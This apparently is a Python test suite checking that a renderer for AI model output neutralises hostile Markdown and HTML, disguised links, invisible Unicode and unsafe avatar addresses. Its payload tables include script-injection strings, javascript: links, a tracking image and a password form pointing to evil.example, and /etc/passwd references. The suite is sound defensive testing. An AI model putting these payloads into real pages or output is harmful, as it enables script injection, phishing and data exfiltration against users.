"""What a model writes is text: tables of hostile and of honest Markdown."""

import re
import time

import pytest

from agents_app.showing.rendering import avatar, is_showable, render, visible_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![tracking](https://evil.example/p.png?q=secret)",
    "![ref]\n\n[ref]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='https://evil.example' onclick='alert(1)'>x</a>",
    "<style>body{display:none}</style>",
    "<form action='https://evil.example'><input name=password></form>",
    '[x](https://e.example "onmouseover=alert(1)")',
    "```<script>alert(1)</script>\nx\n```",
    '```html" onmouseover="alert(1)\n<b onclick=x>\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x> |\n|---|\n| <script>x</script> |",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "[a](https://e.example/'onclick='x)",
    "<!-- <img src=x> -->",
    "\x00<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_brings_no_markup_of_its_own(text: str) -> None:
    html = render(text)
    tags = re.findall(r"<\s*/?\s*([a-zA-Z0-9]+)((?:\"[^\"]*\"|'[^']*'|[^'\">])*)>", html)
    assert not {name for name, _ in tags} & {
        "script",
        "img",
        "iframe",
        "svg",
        "style",
        "form",
        "input",
        "math",
    }
    for _, attributes in tags:
        names = set(re.findall(r"([\w-]+)=\"", attributes))
        assert names <= {"href", "title", "target", "rel", "class", "start", "data-language"}
        for address in re.findall(r'href="([^"]*)"', attributes):
            assert address.startswith(("https://", "http://", "mailto:"))


def test_links_open_apart_and_give_nothing_away() -> None:
    html = render("[report](https://files.example/a)")
    assert 'rel="noopener noreferrer nofollow ugc"' in html
    assert 'target="_blank"' in html


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[bank.example](https://evil.example/login)", "evil.example"),
        ("[click](https://bank.example@evil.example/)", "evil.example"),
        ("[https://bank.example](https://evil.example)", "evil.example"),
        ("[**bold**](https://evil.example)", "evil.example"),
        ("[write](mailto:eve@evil.example)", "eve@evil.example"),
        ("[раypal](https://раypal.example)", "xn--ypal-43d9g.example"),
        ("[r]\n\n[r]: https://evil.example/x", "evil.example"),
    ],
)
def test_a_link_shows_where_it_leads(text: str, host: str) -> None:
    assert f'<span class="link-host">{host}</span>' in render(text)


@pytest.mark.parametrize("text", ["<https://files.example/a>", "[files.example](https://files.example/a)"])
def test_a_link_that_shows_its_host_is_left_alone(text: str) -> None:
    assert "link-host" not in render(text)


def test_relative_links_lead_nowhere() -> None:
    assert "href" not in render("[sign out](/accounts/logout/)")


def test_code_is_highlighted_by_classes_only() -> None:
    html = render("```python\ndef hello():\n    return 'x < 1'\n```")
    assert '<pre data-language="python"><code>' in html
    assert '<span class="tok-k">def</span>' in html
    assert "style=" not in html
    assert "&lt;" in html


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "../../etc"])
def test_unknown_code_stays_plain(language: str) -> None:
    assert "a &lt; b" in render(f"```{language}\na < b\n```")


def test_tables_keep_their_alignment_without_styles() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<td class="align-end">2</td>' in html
    assert "style" not in html


def test_ordinary_markdown_comes_out_whole() -> None:
    html = render("# Title\n\n1. **one**\n2. *two* ~~three~~\n\n> quote\n\n- `code`")
    for part in (
        "<h1>Title</h1>",
        "<strong>one</strong>",
        "<em>two</em>",
        "<s>three</s>",
        "<blockquote>",
        "<code>",
    ):
        assert part in html


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "*a " * 20_000,
        "> " * 5_000,
        "`" * 30_000,
        "|a" * 10_000 + "\n" + "|-" * 10_000,
        "<" * 50_000,
    ],
    ids=["brackets", "stars", "quotes", "ticks", "table", "angles"],
)
def test_pathological_markdown_is_rendered_in_time(text: str) -> None:
    started = time.perf_counter()
    render(text)
    assert time.perf_counter() - started < 30


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("rm -rf /tmp/x", "rm -rf /tmp/x"),
        ("safe\u202etxt.exe", "safe⟨U+202E⟩txt.exe"),
        ("a\u200bb", "a⟨U+200B⟩b"),
        ("\x1b[31mred", "⟨U+001B⟩[31mred"),
        ("a\rb", "a⟨U+000D⟩b"),
        ("tag\U000e0041", "tag⟨U+E0041⟩"),
        ("non\u00a0breaking", "non⟨U+00A0⟩breaking"),
        ("раypal", "⟨U+0440⟩⟨U+0430⟩ypal"),
        ("привет мир", "привет мир"),
        ("naïve café 日本語 🔍", "naïve café 日本語 🔍"),
        ("／etc／passwd", "⟨U+FF0F⟩etc⟨U+FF0F⟩passwd"),
        ("⟨U+202E⟩", "⟨U+27E8⟩U+202E⟩"),
        ("a" + "\n" * 30 + "b", "a\n⟨29 blank lines⟩\nb"),
        ("a" + " " * 100 + "b", "a⟨100 blanks⟩b"),
        ("line\n\ttabbed", "line\n\ttabbed"),
        (42, "42"),
        (True, "true"),
        (None, "null"),
        (["é", 1], '[\n  "é",\n  1\n]'),
    ],
)
def test_nothing_in_an_argument_stays_invisible(value: object, shown: str) -> None:
    assert visible_text(value) == shown


@pytest.mark.parametrize(
    ("value", "readable"),
    [("ls -l", True), ("", True), ("\x00" * 200, False), ("x" * 300_000, False), ("a\u200bb", True)],
)
def test_values_nobody_can_read_are_not_showable(value: object, readable: bool) -> None:
    assert is_showable(value) is readable


@pytest.mark.parametrize(
    ("address", "kind", "value"),
    [
        ("🎨", "emoji", "🎨"),
        ("🔍", "emoji", "🔍"),
        ("A1", "emoji", "A1"),
        ("https://files.example/1.png", "emoji", ""),
        ("/static/img/ana.png", "image", "/static/img/ana.png"),
        ("/static/../admin/", "emoji", ""),
        ("/static/%2e%2e/admin/", "emoji", ""),
        ("http://files.example/1.png", "emoji", ""),
        ("javascript:alert(1)", "emoji", ""),
        ("data:image/svg+xml,<svg>", "emoji", ""),
        ("//evil.example/1.png", "emoji", ""),
    ],
)
def test_an_avatar_is_an_address_or_a_sign(address: str, kind: str, value: str) -> None:
    assert avatar(address) == {"kind": kind, "value": value}
